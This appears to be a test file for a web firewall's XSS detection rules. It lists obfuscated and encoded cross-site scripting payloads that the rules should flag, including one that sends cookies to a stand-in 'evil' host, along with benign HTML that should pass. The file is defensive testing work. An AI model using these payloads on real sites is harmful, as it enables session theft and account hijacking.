import t from 'tap';
import { negatives, positives } from './table.js';

void t.test('XSS vectors are caught, decoded first', async (t) => {
  positives(t, [
    { v: '<script>alert(document.domain)</script>', rule: 941110 },
    { v: '<ScRiPt >alert(1)</sCrIpT>', rule: 941110 },
    { v: '%253Cscript%253Ealert(1)%253C%252Fscript%253E', rule: 941110 },
    { v: '＜script＞alert(1)＜/script＞', rule: 941110 },
    { v: '\\u003cscript\\u003ealert(1)', rule: 941110 },
    { v: '<img src=x onerror=alert(1)>', rule: 941120 },
    { v: '<svg/onload=alert(1)>', rule: 941120 },
    { v: '<input autofocus onfocus=alert(1)>', rule: 941120 },
    { v: '&lt;img src=x onerror=alert(1)&gt;', rule: 941120 },
    { v: '" onmouseover="alert(1)', rule: 941130 },
    { v: 'javascript:alert(String.fromCharCode(88,83,83))', rule: 941140 },
    { v: '<a href="jav&#x09;ascript:alert(1)">x</a>', rule: 941140 },
    { v: 'data:text/html;base64,PHNjcmlwdD4=', rule: 941140 },
    { v: '<iframe srcdoc="x">', rule: 941150 },
    { v: '<object data=x>', rule: 941150 },
    { v: "fetch('//evil/'+document.cookie)", rule: 941160 },
    { v: '<iframe srcdoc="&lt;script&gt;">', rule: 941170 },
  ]);
});

void t.test('markup and symbols in ordinary content stay clean', async (t) => {
  negatives(t, [
    '<p>About us</p>', '<h2>Shipping policy</h2><ul><li>Free over 50 EUR</li></ul>',
    '<img src="https://cdn.example.com/a.png" alt="diagram" width="600">', '<a href="https://example.com" target="_blank">docs</a>',
    '<details><summary>Logs</summary></details>', 'press <kbd>Cmd</kbd> + <kbd>P</kbd>', 'I <3 TypeScript',
    'price < 50', 'Ray Ban <Wayfarer>', '<= 100 EUR', 'a<b && c>d', '-> next steps', 'JavaScript: The Good Parts',
    '<div class="online-status">x</div>', 'el.textContent = name', 'Array.prototype.map callback', '<!-- draft --><p>Hi</p>',
    'Dear ${customer.name}', 'Hello {{name}}, your order {{order.id}} shipped', 'data:image/png;base64,iVBORw0KGgo=',
  ]);
});
